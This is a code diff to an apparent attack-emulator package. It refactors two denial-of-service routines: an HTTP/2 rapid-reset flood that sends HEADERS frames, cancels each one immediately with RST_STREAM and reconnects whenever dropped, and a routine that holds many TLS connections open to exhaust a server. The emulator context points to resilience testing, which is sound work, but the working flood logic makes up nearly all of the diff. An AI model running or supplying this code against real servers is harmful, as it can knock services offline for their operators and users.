@@ -4,12 +4,13 @@ import select
 import socket
 import ssl
 import struct
+import time
 from collections.abc import Callable
 from contextlib import suppress
 from threading import Event
 from typing import Self
 
-from emulator.attacks.attack import Attack, Pace
+from emulator.attacks.attack import Attack
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
@@ -65,13 +66,16 @@ class Resetting:
         return found
 
     def open_and_reset(self) -> None:
-        """Some calls, each given up as soon as it is made; answers are thrown away."""
+        """Some calls, each given up as soon as it is made."""
         sent = b""
         for _ in range(CALLS_AT_ONCE):
             sent += frame(HEADERS, END_HEADERS, self._stream, PLAY)
             sent += frame(RST_STREAM, 0, self._stream, CANCEL)
             self._stream += 2
         self._socket.sendall(sent)
+
+    def throw_away(self) -> None:
+        """Read what the server has answered; ConnectionError where it has hung up."""
         while self._socket.pending() or select.select([self._socket], [], [], 0)[0]:
             if not self._socket.recv(65_536):
                 raise ConnectionError
@@ -85,20 +89,22 @@ class Resetting:
 
 def resets(attack: Attack, began: Callable[[], None], ended: Event) -> int:
     """Calls that are opened and reset, and again whenever the server hangs up."""
-    pace, tls = Pace(attack.per_s), attack.tls("h2")
+    pace, tls = attack.pace(), attack.tls("h2")
     began()
     while not ended.is_set():
         with suppress(OSError), Resetting(*attack.where, tls) as client:
             while not ended.is_set():
                 client.open_and_reset()
-                pace.wait(CALLS_AT_ONCE)
+                wait_s = pace.due_s(CALLS_AT_ONCE)
+                client.throw_away()
+                time.sleep(wait_s)
         pace.wait(0)
     return pace.done
 
 
 def connections(attack: Attack, began: Callable[[], None], ended: Event) -> int:
     """TLS connections that are opened and left, whatever the server then wants of them."""
-    pace, tls, held = Pace(attack.per_s), attack.tls("h2"), list[ssl.SSLSocket]()
+    pace, tls, held = attack.pace(), attack.tls("h2"), list[ssl.SSLSocket]()
     while pace.done < attack.count and not ended.is_set():
         with suppress(OSError):
             plain = socket.create_connection(attack.where, timeout=20)
